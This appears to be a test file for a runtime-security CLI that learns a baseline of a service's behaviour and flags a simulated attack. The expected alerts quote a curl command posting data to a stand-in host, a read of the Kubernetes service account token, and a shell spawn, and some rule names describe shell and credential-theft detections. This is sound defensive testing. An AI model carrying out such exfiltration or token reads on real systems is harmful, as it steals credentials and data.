/**
 * `hangar-agent replay --learn --db` and `replay --db` as users run them: the
 * agent CLI in a child process over Tetragon JSON lines and call traces, with
 * the baseline in a real DuckDB file.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { after, before, describe, it } from "node:test";
import { listProviders, showBaseline } from "../src/index.js";
import { notesRecording, type RecordingOptions } from "./recordings.js";

const CLI = fileURLToPath(new URL("../../../../agent/dist/src/cli/main.js", import.meta.url));
const DAY = 86_400_000;
const T0 = Date.parse("2026-03-02T09:00:00Z");

interface AlertJson {
  ruleId: string;
  severity: string;
  message: string;
  fixHint: string;
  explanation: string;
  baselineVersion: string;
  toolCalls?: { tool: string; sessionId: string }[];
  evidence: unknown[];
}

function run(args: string[]) {
  const r = spawnSync(process.execPath, [CLI, "replay", ...args], { encoding: "utf8" });
  const last = r.stderr.trimEnd().split("\n").at(-1) ?? "";
  let summary:
    { alerts: number; kept: number; malformed: unknown[]; folded: Record<string, number> } | undefined;
  try {
    summary = JSON.parse(last) as typeof summary;
  } catch {
    summary = undefined;
  }
  const alerts = r.stdout
    .split("\n")
    .filter((l) => l.trim() !== "")
    .map((l) => JSON.parse(l) as AlertJson);
  return { status: r.status, stderr: r.stderr, summary, alerts };
}

describe("replay --learn, then replay --db", () => {
  let dir = "";
  const write = (name: string, o: RecordingOptions) => {
    const rec = notesRecording(o);
    const t = join(dir, `${name}.tetragon.jsonl`);
    const c = join(dir, `${name}.traces.jsonl`);
    writeFileSync(t, rec.tetragon);
    writeFileSync(c, rec.traces);
    return ["--tetragon", t, "--traces", c];
  };
  before(() => {
    dir = mkdtempSync(join(tmpdir(), "hangar-baseline-replay-"));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it("learns a normal recording, stays quiet on a second one, and names what an attack added", () => {
    const db = join(dir, "baseline.duckdb");
    const learn = run([...write("normal-1", { startMs: T0, minutes: 60, seed: 1 }), "--db", db, "--learn"]);
    assert.equal(learn.status, 0, learn.stderr);
    assert.equal(learn.summary?.alerts, 0, "learning raises no alert");
    assert.ok((learn.summary?.kept ?? 0) > 400, `kept ${learn.summary?.kept}`);

    const normal = run([...write("normal-2", { startMs: T0 + DAY, minutes: 30, seed: 2 }), "--db", db]);
    assert.equal(normal.status, 0, normal.stderr);
    assert.deepEqual(
      normal.alerts.map((a) => `${a.ruleId} ${a.message}`),
      [],
      "a second normal recording raises no deviation",
    );

    const attack = run([
      ...write("attack", { startMs: T0 + 2 * DAY, minutes: 10, seed: 3, attackAtMinute: 5 }),
      "--db",
      db,
    ]);
    assert.equal(attack.status, 0, attack.stderr);
    const byRule = new Map(attack.alerts.map((a) => [a.ruleId, a] as const));
    const summary = attack.alerts.map((a) => `${a.ruleId}: ${a.message}`).sort();
    assert.deepEqual(summary, [
      "baseline/new-binary: notes ran /bin/sh, a binary not in its baseline",
      "baseline/new-binary: notes ran /usr/bin/curl, a binary not in its baseline",
      "baseline/new-egress: notes connected to 203.0.113.66:443/tcp, a destination not in its baseline",
      "baseline/new-file: notes read /var/run/secrets/kubernetes.io/serviceaccount/token, a file not in its baseline",
    ]);
    const egress = byRule.get("baseline/new-egress")!;
    assert.equal(egress.severity, "SEVERITY_HIGH");
    assert.match(egress.fixHint, /hangar-ctl baseline allow notes egress 203\.0\.113\.66:443\/tcp --db /);
    assert.match(
      egress.explanation,
      /caller agent:research-assistant, in session session-3-5, called tool fetch_url/,
    );
    assert.match(
      egress.explanation,
      /pid \d+ \(\/usr\/bin\/curl -s -d @- https:\/\/203\.0\.113\.66\/u\) connected to/,
    );
    assert.equal(egress.toolCalls?.[0]?.tool, "fetch_url");
    assert.equal(egress.evidence.length, 1);
    assert.match(egress.baselineVersion, /^v\d+$/);

    // The file keeps what was learned and what deviated.
    return Promise.all([listProviders(db), showBaseline(db, "notes")]).then(([providers, report]) => {
      assert.equal(providers.length, 1);
      assert.equal(providers[0]?.state, "enforcing");
      assert.equal(report.endReason, "end of recording");
      assert.ok(report.partial, "the server process predates the recording");
      assert.ok(
        report.facets.file.some((f) => f.value === "/app/notes/**" && f.qualifier === "read" && f.collapsed),
        "note reads collapsed to a prefix",
      );
      assert.ok(report.facets.egress.some((e) => e.value === "198.51.100.0/24:443/tcp"));
      assert.deepEqual(report.recentDeviations.map((d) => d.kind).sort(), [
        "new-binary",
        "new-binary",
        "new-egress",
        "new-file",
      ]);
    });
  });

  it("with the default rule pack as well: normal stays quiet, the attack raises rules and deviations", () => {
    const db = join(dir, "with-rules.duckdb");
    const rules = ["--default-rules"];
    const learn = run([
      ...write("r-normal-1", { startMs: T0, minutes: 60, seed: 1 }),
      "--db",
      db,
      "--learn",
      ...rules,
    ]);
    assert.equal(learn.status, 0, learn.stderr);
    assert.ok(
      learn.alerts.every((a) => a.severity === "SEVERITY_LOW"),
      `while learning, baseline rules fire at low severity only: ${learn.alerts.map((a) => a.ruleId).join(", ")}`,
    );
    const normal = run([
      ...write("r-normal-2", { startMs: T0 + DAY, minutes: 30, seed: 2 }),
      "--db",
      db,
      ...rules,
    ]);
    assert.equal(normal.status, 0, normal.stderr);
    assert.deepEqual(
      normal.alerts.map((a) => `${a.ruleId} ${a.message}`),
      [],
    );
    const attack = run([
      ...write("r-attack", { startMs: T0 + 2 * DAY, minutes: 10, seed: 3, attackAtMinute: 5 }),
      "--db",
      db,
      ...rules,
    ]);
    assert.equal(attack.status, 0, attack.stderr);
    const fired = new Set(attack.alerts.map((a) => a.ruleId));
    for (const id of [
      "baseline/new-egress",
      "baseline/new-file",
      "hangar.exec.shell_from_server",
      "hangar.cred.service_account_token_read",
    ]) {
      assert.ok(fired.has(id), `${id} fired (got ${[...fired].join(", ")})`);
    }
    // One novelty alert per event: the rule that only repeats the egress baseline's verdict on
    // the same connect is folded into the deviation (counted, not sent).
    assert.ok(!fired.has("hangar.net.egress_not_in_baseline"));
    assert.ok(
      (attack.summary?.folded["hangar.net.egress_not_in_baseline"] ?? 0) >= 1,
      attack.stderr.slice(-500),
    );
  });

  it("refuses --learn without --db and reports a database it cannot use", () => {
    const args = write("small", { startMs: T0, minutes: 1, seed: 9 });
    const noDb = run([...args, "--learn"]);
    assert.equal(noDb.status, 2);
    assert.match(noDb.stderr, /--learn needs --db FILE/);
    const bad = join(dir, "not-a-dir", "x.duckdb");
    const r = run([...args, "--db", bad]);
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /HANGAR_ERR_BASELINE_DB_OPEN|cannot open baseline database/);
  });
});
